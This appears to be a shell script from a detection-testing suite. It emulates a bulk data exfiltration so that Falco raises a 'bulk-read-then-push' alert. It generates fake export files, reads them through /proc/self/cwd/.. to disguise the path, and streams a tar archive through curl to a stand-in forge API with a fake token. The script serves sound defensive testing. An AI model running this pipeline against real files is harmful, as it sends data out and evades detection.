#!/bin/sh
# Emulates scenario proc-cwd-parent-tar-to-curl (examples/scenarios/proc-cwd-parent-tar-to-curl.yaml):
# Exports read through /proc/self/cwd/.., archived into a pipe and uploaded from stdin by curl.
#
# Safe version: 24 files of 4 MiB of random "exports", read by tar from a working directory beside them
# through /proc/self/cwd/.. (the kernel follows the link, then `..`; Falco normalizes the text to
# /proc/self/exports/…) and sent by curl from its stdin to the in-namespace forge-api stand-in with a fake
# token.
#
# Image: curlimages/curl:8.11.1
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl tar head
emu_check_target "$EMU_FORGE_URL"
work="$EMU_WORKDIR/proc-cwd-parent-tar-to-curl"
rm -rf "$work"
for n in $(seq -w 1 24); do emu_big_file "$work/srv/exports/2024-$n.parquet" 4; done
mkdir -p "$work/srv/reports"
cd "$work/srv/reports"
emu_log "archiving 96 MiB read through /proc/self/cwd/.. into curl's stdin"
tar czf - /proc/self/cwd/../exports | curl -fsS -o /dev/null -T - \
  -H "Authorization: token ghp_FAKEEXAMPLETOKEN000000000000000000" \
  "$EMU_FORGE_URL/repos/rpt-drop/z/releases/52012/assets?name=e.tgz" ||
  emu_log "the upload ended with an error (the files were read and sent by then)"
cd /
rm -rf "$work"
emu_expect bulk-read-then-push high
